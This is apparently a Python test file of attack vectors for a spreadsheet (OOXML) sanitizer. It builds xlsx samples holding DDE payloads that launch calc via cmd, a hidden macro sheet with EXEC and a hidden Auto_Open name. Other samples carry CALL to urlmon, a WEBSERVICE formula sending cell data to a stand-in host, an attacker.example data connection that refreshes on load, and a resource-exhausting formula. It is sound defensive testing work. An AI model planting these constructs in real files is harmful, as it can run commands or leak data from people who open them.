"""What a workbook can carry (OOXML-80 to OOXML-101)."""

from tests.sanitizers.ooxml.forge import HOST, MS, NAMESPACES, D, O, Package, Relation
from tests.sanitizers.ooxml.vector import Vector, in_cell, in_sheet, in_workbook, part, sheet_xml, used

URL = f"http://{HOST}/a"
UNC = f"\\\\{HOST}\\a"
_MACRO_SHEET = (
    '<xm:macrosheet xmlns:xm="{}" xmlns="{}"><sheetData><row r="1"><c r="A1"><f>EXEC("a")</f><v>0</v></c></row>'
    "</sheetData></xm:macrosheet>"
)


def _link(inside: str, kind: str = "", target: str = ""):
    """A part that links to another book or program."""

    def put(p: Package) -> None:
        name = "xl/externalLinks/externalLink7.xml"
        identifier = p.add(
            name, sheet_xml("externalLink", inside), O + "spreadsheetml.externalLink+xml", D + "externalLink"
        )
        if kind:
            p.relations[name] = {"rId1": Relation(D + kind, target, True)}
        in_workbook(f'<externalReferences><externalReference r:id="{identifier}"/></externalReferences>', "r")(p)

    return put


def _macro_sheet(p: Package) -> None:
    data = _MACRO_SHEET.format(NAMESPACES["xm"], "http://schemas.openxmlformats.org/spreadsheetml/2006/main")
    identifier = p.add(
        "xl/macrosheets/sheet7.xml", data, "application/vnd.ms-excel.macrosheet+xml", MS + "xlMacrosheet"
    )
    p.change(
        p.main, "</sheets>", f'<sheet name="Macro1" sheetId="77" state="veryHidden" r:id="{identifier}"/></sheets>'
    )


def _dialog_sheet(p: Package) -> None:
    data = sheet_xml("dialogsheet", "<sheetViews/>")
    identifier = p.add("xl/dialogsheets/sheet7.xml", data, O + "spreadsheetml.dialogsheet+xml", D + "dialogsheet")
    p.change(p.main, "</sheets>", f'<sheet name="Dialog1" sheetId="78" r:id="{identifier}"/></sheets>')


def _name(attributes: str, text: str = "Sheet1!$A$1"):
    return in_workbook(f"<definedNames><definedName {attributes}>{text}</definedName></definedNames>")


def _called_so(p: Package) -> None:
    _name('name="CALL"', "_xlfn.LAMBDA(_xlpm.a,_xlpm.a)")(p)
    in_cell(f"CALL(&quot;{HOST}&quot;)")(p)


def _pivot(p: Package) -> None:
    source = '<cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="a" r:id="rId1"/></cacheSource>'
    data = sheet_xml('pivotCacheDefinition refreshOnLoad="1"', f'{source}<cacheFields count="0"/>').replace(
        "</pivotCacheDefinition refreshOnLoad", "</pivotCacheDefinition"
    )
    name = "xl/pivotCache/pivotCacheDefinition7.xml"
    identifier = p.add(name, data, O + "spreadsheetml.pivotCacheDefinition+xml", D + "pivotCacheDefinition")
    p.relations[name] = {"rId1": Relation(D + "externalLinkPath", f"file:///{UNC}\\a.xlsx", True)}
    in_workbook(f'<pivotCaches><pivotCache cacheId="7" r:id="{identifier}"/></pivotCaches>', "r")(p)


def _web_picture(p: Package) -> None:
    name = "xl/richData/rdRichValueWebImage.xml"
    data = (
        '<webImagesSrd xmlns="http://schemas.microsoft.com/office/spreadsheetml/2020/richdatawebimage"'
        ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<webImageSrd><address r:id="rId1"/></webImageSrd></webImagesSrd>'
    )
    kind = "http://schemas.microsoft.com/office/2020/07/relationships/rdRichValueWebImage"
    p.add(name, data, "application/vnd.ms-excel.rdrichvaluewebimage+xml", kind)
    p.relations[name] = {"rId1": Relation(D + "hyperlink", URL, True)}


_CONNECTIONS = sheet_xml(
    "connections",
    '<connection id="1" name="a" type="4" refreshOnLoad="1" odcFile="a">'
    '<webPr url="http://attacker.example/"/></connection>',
)
_QUERY = sheet_xml('queryTable name="a" connectionId="1" refreshOnLoad="1"').replace(
    "</queryTable name", "</queryTable"
)
_DDE = "cmd|'/k calc'!A0"

SHEETS = (
    Vector(
        "OOXML-80",
        "another workbook",
        "xlsx",
        _link('<externalBook r:id="rId1"/>', "externalLinkPath", f"file:///{UNC}\\a.xlsx"),
    ),
    Vector("OOXML-80", "a reference to another workbook", "xlsx", in_cell("[1]Sheet1!A1")),
    Vector(
        "OOXML-81",
        "a DDE link",
        "xlsx",
        _link(
            '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="a" advise="1"/></ddeItems></ddeLink>'
        ),
    ),
    Vector("OOXML-82", "an OLE link", "xlsx", _link('<oleLink r:id="rId1" progId="a"/>', "oleObject", URL)),
    Vector("OOXML-83", "DDE in a formula", "xlsx", in_cell(_DDE)),
    Vector(
        "OOXML-84",
        "connections",
        "xlsx",
        part("xl/connections.xml", "spreadsheetml.connections+xml", "connections", _CONNECTIONS),
    ),
    Vector(
        "OOXML-85",
        "a query",
        "xlsx",
        part("xl/queryTables/queryTable1.xml", "spreadsheetml.queryTable+xml", "queryTable", _QUERY),
    ),
    Vector(
        "OOXML-85",
        "a data model",
        "xlsx",
        part(
            "xl/model/item.data",
            "application/vnd.openxmlformats-officedocument.model+data",
            "http://schemas.microsoft.com/office/2007/relationships/powerPivotData",
            b"model",
        ),
    ),
    Vector("OOXML-86", "a macro sheet", "xlsx", _macro_sheet),
    Vector("OOXML-87", "a dialog sheet", "xlsx", _dialog_sheet),
    Vector("OOXML-88", "a name that runs", "xlsx", _name('name="_xlnm.Auto_Open" hidden="1"')),
    Vector("OOXML-88", "a name of a macro", "xlsx", _name('name="a" function="1" vbProcedure="1"')),
    *(
        Vector("OOXML-89", text.partition("(")[0], "xlsx", in_cell(text.replace('"', "&quot;")))
        for text in (
            f'WEBSERVICE("{URL}?"&amp;A1)',
            '_xlfn.FILTERXML("a","b")',
            f'_xlfn.IMAGE("{URL}.png")',
            f'HYPERLINK("file://{HOST}/a","b")',
            'RTD("a",,"b")',
            '_xlfn.STOCKHISTORY("a",1)',
            'CUBEVALUE("a","b")',
            'SQL.REQUEST("a","b")',
        )
    ),
    *(
        Vector("OOXML-90", text.partition("(")[0], "xlsx", in_cell(text.replace('"', "&quot;")))
        for text in (
            'CALL("urlmon","a","J")',
            'REGISTER("a","b")',
            'REGISTER.ID("a","b")',
            'EXEC("a")',
            'FOPEN("a",3)',
            'EVALUATE("a")',
            'RUN("a")',
            "GET.WORKSPACE(1)",
        )
    ),
    Vector("OOXML-90", "CALL behind a name that is called so", "xlsx", _called_so),
    Vector("OOXML-90", "a function of an add-in", "xlsx", in_cell("[1]!Evil(1)")),
    Vector("OOXML-91", "a calculation that grows", "xlsx", in_cell("SUM(_xlfn.SEQUENCE(1048576,16384))")),
    Vector(
        "OOXML-92",
        "a link of a cell to a file",
        "xlsx",
        used(
            "hyperlink",
            f"file://{HOST}/a",
            lambda i: in_sheet(f'<hyperlinks><hyperlink ref="A1" r:id="{i}"/></hyperlinks>', "r"),
            "spreadsheetml.worksheet+xml",
        ),
    ),
    Vector(
        "OOXML-93",
        "DDE in a validation",
        "xlsx",
        in_sheet(
            '<dataValidations count="1"><dataValidation type="custom" sqref="A1">'
            f"<formula1>{_DDE}</formula1></dataValidation></dataValidations>"
        ),
    ),
    Vector(
        "OOXML-93",
        "WEBSERVICE in a format",
        "xlsx",
        in_sheet(
            '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
            f'<formula>WEBSERVICE("{URL}")=1</formula></cfRule></conditionalFormatting>'
        ),
    ),
    Vector("OOXML-93", "DDE in a name", "xlsx", _name('name="a"', _DDE)),
    Vector("OOXML-94", "a pivot cache of another workbook", "xlsx", _pivot),
    Vector(
        "OOXML-96", "maps of XML", "xlsx", part("xl/xmlMaps.xml", "application/xml", "xmlMaps", sheet_xml("MapInfo"))
    ),
    Vector(
        "OOXML-97",
        "data in real time",
        "xlsx",
        part(
            "xl/volatileDependencies.xml",
            "spreadsheetml.volatileDependencies+xml",
            "volatileDependencies",
            sheet_xml("volTypes"),
        ),
    ),
    Vector("OOXML-98", "a picture of the web", "xlsx", _web_picture),
    Vector("OOXML-99", "who shares the file", "xlsx", in_workbook('<fileSharing userName="Secret"/>')),
    Vector(
        "OOXML-99",
        "a path",
        "xlsx",
        in_workbook(
            '<x15ac:absPath xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac"'
            ' url="C:\\Users\\secret\\"/>'
        ),
    ),
    Vector(
        "OOXML-100",
        "an order of calculation",
        "xlsx",
        part(
            "xl/calcChain.xml", "spreadsheetml.calcChain+xml", "calcChain", sheet_xml("calcChain", '<c r="A1" i="1"/>')
        ),
    ),
)
